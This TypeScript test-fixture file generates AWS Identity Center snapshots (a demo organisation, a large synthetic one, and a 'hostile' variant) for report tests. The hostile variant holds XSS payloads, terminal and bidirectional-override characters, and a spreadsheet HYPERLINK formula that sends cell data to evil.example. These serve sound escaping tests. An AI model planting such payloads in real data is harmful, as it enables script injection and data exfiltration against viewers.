/**
 * Snapshots for the report and diff tests, built in code (deterministic): a realistic small organization for
 * the browser tests and the README screenshots, a hostile one whose names are markup and formulas, and a large
 * one (1,000 accounts, ~5,000 assignments) to measure the page's size.
 */
import type {
  DiscoverSnapshot,
  SnapshotAccount,
  SnapshotAssignment,
  SnapshotGroup,
  SnapshotOrganizationalUnit,
  SnapshotPermissionSet,
  SnapshotUser,
} from '../../src/discovery/snapshot.js'

import {canonicalSnapshot} from '../../src/discovery/snapshot.js'

const INSTANCE = 'ssoins-72237f3a1e2b4c5d'
const STORE = 'd-9067c1a2b3'
export const psArn = (id: string): string => `arn:aws:sso:::permissionSet/${INSTANCE}/ps-${id}`
const managed = (name: string): string => `arn:aws:iam::aws:policy/${name}`

function base(): Omit<DiscoverSnapshot, 'accounts' | 'assignments' | 'groups' | 'permissionSets' | 'users'> {
  return {
    caller: {account: '111100000000', arn: 'arn:aws:sts::111100000000:assumed-role/OrgAdmin/audit'},
    generatedAt: '2026-11-30T08:00:00Z',
    instances: [
      {
        identityStoreId: STORE,
        instanceArn: `arn:aws:sso:::instance/${INSTANCE}`,
        name: null,
        ownerAccountId: '111100000000',
        region: 'eu-west-1',
        startUrl: `https://${STORE}.awsapps.com/start`,
        startUrlSource: 'default',
        status: 'ACTIVE',
      },
    ],
    searchedRegions: ['eu-west-1'],
    stats: {durationMs: 4200, requests: 180, throttled: 0},
    version: 1,
    warnings: [],
  }
}

interface DemoSpec {
  accounts: Array<[id: string, name: string, ou: string]>
  assignments: Array<[account: string, permissionSet: string, principal: string]>
  groups: Array<[id: string, name: string, members: string[]]>
  ous: Array<[id: string, name: string, parent: null | string]>
  permissionSets: Array<[id: string, name: string, duration: string, description: null | string, policies: string[]]>
  users: Array<[id: string, userName: string, displayName: string]>
}

const DEMO: DemoSpec = {
  accounts: [
    ['111100000000', 'management', 'r-7k2q'],
    ['222200000001', 'security-audit', 'ou-7k2q-security'],
    ['222200000002', 'log-archive', 'ou-7k2q-security'],
    ['333300000001', 'network', 'ou-7k2q-infrastr'],
    ['333300000002', 'shared-services', 'ou-7k2q-infrastr'],
    ['444400000001', 'payments-prod', 'ou-7k2q-product1'],
    ['444400000002', 'checkout-prod', 'ou-7k2q-product1'],
    ['444400000003', 'data-prod', 'ou-7k2q-product1'],
    ['555500000001', 'payments-staging', 'ou-7k2q-staging1'],
    ['555500000002', 'checkout-staging', 'ou-7k2q-staging1'],
    ['666600000001', 'sandbox-nadia', 'ou-7k2q-sandbox1'],
    ['666600000002', 'sandbox-omar', 'ou-7k2q-sandbox1'],
  ],
  assignments: [
    ['111100000000', 'admin', 'g-platform'],
    ['111100000000', 'billing', 'g-finance'],
    ['111100000000', 'breakglass', 'u-grace'],
    ['222200000001', 'admin', 'g-platform'],
    ['222200000001', 'audit', 'g-auditors'],
    ['222200000002', 'admin', 'g-platform'],
    ['222200000002', 'audit', 'g-auditors'],
    ['333300000001', 'admin', 'g-platform'],
    ['333300000001', 'readonly', 'g-developers'],
    ['333300000002', 'admin', 'g-platform'],
    ['333300000002', 'poweruser', 'g-developers'],
    ['444400000001', 'admin', 'g-platform'],
    ['444400000001', 'poweruser', 'g-payments'],
    ['444400000001', 'readonly', 'g-developers'],
    ['444400000001', 'audit', 'g-auditors'],
    ['444400000001', 'admin', 'u-lena'],
    ['444400000002', 'admin', 'g-platform'],
    ['444400000002', 'readonly', 'g-developers'],
    ['444400000002', 'audit', 'g-auditors'],
    ['444400000003', 'admin', 'g-platform'],
    ['444400000003', 'data', 'g-data'],
    ['444400000003', 'readonly', 'u-ines'],
    ['444400000003', 'audit', 'g-auditors'],
    ['555500000001', 'poweruser', 'g-payments'],
    ['555500000001', 'poweruser', 'g-developers'],
    ['555500000001', 'viewonly', 'u-chen'],
    ['555500000002', 'poweruser', 'g-developers'],
    ['666600000001', 'admin', 'u-nadia'],
    ['666600000002', 'admin', 'u-omar'],
  ],
  groups: [
    ['g-auditors', 'Auditors', ['u-chen', 'u-farah']],
    ['g-data', 'Data Team', ['u-ines', 'u-jonas', 'u-kofi']],
    [
      'g-developers',
      'Developers',
      ['u-bruno', 'u-dmitri', 'u-eva', 'u-jonas', 'u-kofi', 'u-lena', 'u-nadia', 'u-omar'],
    ],
    ['g-finance', 'Finance', ['u-hana']],
    ['g-payments', 'Payments Team', ['u-bruno', 'u-eva', 'u-lena']],
    ['g-platform', 'Platform Admins', ['u-alex', 'u-grace']],
  ],
  ous: [
    ['r-7k2q', 'Root', null],
    ['ou-7k2q-security', 'Security', 'r-7k2q'],
    ['ou-7k2q-infrastr', 'Infrastructure', 'r-7k2q'],
    ['ou-7k2q-workload', 'Workloads', 'r-7k2q'],
    ['ou-7k2q-product1', 'Production', 'ou-7k2q-workload'],
    ['ou-7k2q-staging1', 'Staging', 'ou-7k2q-workload'],
    ['ou-7k2q-sandbox1', 'Sandbox', 'r-7k2q'],
  ],
  permissionSets: [
    ['admin', 'AdministratorAccess', 'PT1H', 'Full access', [managed('AdministratorAccess')]],
    ['breakglass', 'BreakGlass', 'PT1H', 'Emergency access (inline *:*)', ['inline:*']],
    ['poweruser', 'PowerUserAccess', 'PT4H', 'Everything but IAM', [managed('PowerUserAccess')]],
    ['data', 'DataEngineer', 'PT8H', 'Glue, Athena, S3 data lake', ['/data/DataLakeAccess', 'inline:glue']],
    ['billing', 'Billing', 'PT8H', null, [managed('job-function/Billing')]],
    ['readonly', 'ReadOnlyAccess', 'PT8H', 'Read everything', [managed('ReadOnlyAccess')]],
    ['viewonly', 'ViewOnlyAccess', 'PT8H', null, [managed('job-function/ViewOnlyAccess')]],
    ['audit', 'SecurityAudit', 'PT8H', 'For the auditors', [managed('SecurityAudit')]],
  ],
  users: [
    ['u-alex', 'alex.moreau', 'Alex Moreau'],
    ['u-bruno', 'bruno.costa', 'Bruno Costa'],
    ['u-chen', 'chen.wei', 'Chen Wei'],
    ['u-dmitri', 'dmitri.ivanov', 'Dmitri Ivanov'],
    ['u-eva', 'eva.lindqvist', 'Eva Lindqvist'],
    ['u-farah', 'farah.haddad', 'Farah Haddad'],
    ['u-grace', 'grace.okafor', 'Grace Okafor'],
    ['u-hana', 'hana.sato', 'Hana Sato'],
    ['u-ines', 'ines.duarte', 'Inês Duarte'],
    ['u-jonas', 'jonas.berg', 'Jonas Berg'],
    ['u-kofi', 'kofi.mensah', 'Kofi Mensah'],
    ['u-lena', 'lena.fischer', 'Lena Fischer'],
    ['u-nadia', 'nadia.rahman', 'Nadia Rahman'],
    ['u-omar', 'omar.khalil', 'Omar Khalil'],
  ],
}

const HEX = '0123456789abcdef'
const fakeSha = (seed: string): string =>
  Array.from({length: 64}, (_, i) => HEX[(seed.codePointAt(i % seed.length)! * (i + 7)) % 16]).join('')

function permissionSetOf([
  id,
  name,
  duration,
  description,
  policies,
]: DemoSpec['permissionSets'][number]): SnapshotPermissionSet {
  const inline = policies.find((p) => p.startsWith('inline:'))
  return {
    arn: psArn(id),
    description,
    name,
    policies: {
      awsManaged: policies.filter((p) => p.startsWith('arn:')),
      customerManaged: policies.filter((p) => p.startsWith('/')),
      inline: inline ? {allowsEverything: inline === 'inline:*', sha256: fakeSha(name)} : null,
    },
    sessionDuration: duration,
  }
}

/** A realistic small organization: 12 accounts in 6 OUs, 8 permission sets with policies, 14 people, 6 groups. */
export function demoSnapshot(): DiscoverSnapshot {
  const accounts: SnapshotAccount[] = DEMO.accounts.map(([id, name, parentId]) => ({
    email: `aws+${name}@example.com`,
    id,
    name,
    parentId,
    status: 'ACTIVE',
  }))
  const organizationalUnits: SnapshotOrganizationalUnit[] = DEMO.ous.map(([id, name, parentId]) => ({
    id,
    name,
    parentId,
  }))
  const users: SnapshotUser[] = DEMO.users.map(([id, userName, displayName]) => ({
    displayName,
    email: `${userName}@example.com`,
    id,
    identityStoreId: STORE,
    userName,
  }))
  const groups: SnapshotGroup[] = DEMO.groups.map(([id, displayName, memberIds]) => ({
    displayName,
    id,
    identityStoreId: STORE,
    memberIds,
  }))
  const assignments: SnapshotAssignment[] = DEMO.assignments.map(([accountId, ps, principalId]) => ({
    accountId,
    permissionSetArn: psArn(ps),
    principalId,
    principalType: principalId.startsWith('g-') ? 'GROUP' : 'USER',
  }))
  return canonicalSnapshot({
    ...base(),
    accounts,
    assignments,
    groups,
    organizationalUnits,
    permissionSets: DEMO.permissionSets.map((p) => permissionSetOf(p)),
    users,
  })
}

/** Names that are markup, formulas, control characters and bidirectional overrides. */
export const HOSTILE = {
  account: '<script>alert("account")</script>',
  formula: '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  group: '<img src=x onerror=alert(1)>',
  permissionSet: '"><svg onload=alert(2)>',
  user: '@SUM(1+1)\u001B[31m\u202Eevil',
}

export function hostileSnapshot(): DiscoverSnapshot {
  const snapshot = demoSnapshot()
  snapshot.accounts![0].name = HOSTILE.account
  snapshot.accounts![1].name = HOSTILE.formula
  snapshot.groups!.find((g) => g.id === 'g-platform')!.displayName = HOSTILE.group
  snapshot.permissionSets!.find((p) => p.name === 'AdministratorAccess')!.name = HOSTILE.permissionSet
  snapshot.users!.find((u) => u.id === 'u-grace')!.userName = HOSTILE.user
  snapshot.warnings.push({code: 'DELEGATED_ADMIN', message: '</script><script>alert(3)</script>', scope: 'assignments'})
  return canonicalSnapshot(snapshot)
}

/** mulberry32 */
function random(seed: number): () => number {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d_2b_79_f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}

/**
 * A large organization: `accounts` accounts in 40 OUs, 30 permission sets, `users` users in `groups` groups
 * (each user in 1-3 groups), and `assignments` assignments (80% to groups).
 */
export const LARGE = {accounts: 1000, assignments: 5000, groups: 150, users: 2000}

export function largeSnapshot(size = LARGE): DiscoverSnapshot {
  const next = random(20_261_130)
  const pick = <T>(items: T[]): T => items[Math.floor(next() * items.length)]
  const organizationalUnits: SnapshotOrganizationalUnit[] = [{id: 'r-big1', name: 'Root', parentId: null}]
  for (let i = 0; i < 40; i++) {
    const parentId = i < 8 ? 'r-big1' : organizationalUnits[1 + (i % 8)].id
    organizationalUnits.push({id: `ou-big1-${String(i).padStart(8, '0')}`, name: `Business unit ${i}`, parentId})
  }

  const accounts: SnapshotAccount[] = Array.from({length: size.accounts}, (_, i) => ({
    email: `aws+account${i}@example.com`,
    id: String(100_000_000_000 + i * 7919),
    name: `workload-${String(i).padStart(4, '0')}-${pick(['prod', 'staging', 'dev', 'sandbox'])}`,
    parentId: pick(organizationalUnits).id,
    status: 'ACTIVE',
  }))
  const levels = ['AdministratorAccess', 'PowerUserAccess', 'ReadOnlyAccess', 'job-function/ViewOnlyAccess']
  const permissionSets: SnapshotPermissionSet[] = Array.from({length: 30}, (_, i) => ({
    arn: psArn(`big${String(i).padStart(4, '0')}`),
    description: `Team role ${i}`,
    name: `TeamRole${String(i).padStart(2, '0')}`,
    policies: {awsManaged: [managed(levels[i % 4])], customerManaged: [], inline: null},
    sessionDuration: 'PT4H',
  }))
  const users: SnapshotUser[] = Array.from({length: size.users}, (_, i) => ({
    displayName: `Person Number${i}`,
    email: `person${i}@example.com`,
    id: `u-${String(i).padStart(6, '0')}`,
    identityStoreId: STORE,
    userName: `person${String(i).padStart(5, '0')}`,
  }))
  const groups: SnapshotGroup[] = Array.from({length: size.groups}, (_, i) => ({
    displayName: `Team ${i}`,
    id: `g-${String(i).padStart(6, '0')}`,
    identityStoreId: STORE,
    memberIds: [],
  }))
  for (const user of users) {
    const count = 1 + Math.floor(next() * 3)
    for (let k = 0; k < count; k++) pick(groups).memberIds.push(user.id)
  }

  const assignments = new Map<string, SnapshotAssignment>()
  while (assignments.size < size.assignments) {
    const toGroup = next() < 0.8
    const a: SnapshotAssignment = {
      accountId: pick(accounts).id,
      permissionSetArn: pick(permissionSets).arn,
      principalId: toGroup ? pick(groups).id : pick(users).id,
      principalType: toGroup ? 'GROUP' : 'USER',
    }
    assignments.set(`${a.accountId} ${a.permissionSetArn} ${a.principalId}`, a)
  }

  return canonicalSnapshot({
    ...base(),
    accounts,
    assignments: [...assignments.values()],
    groups,
    organizationalUnits,
    permissionSets,
    users,
  })
}
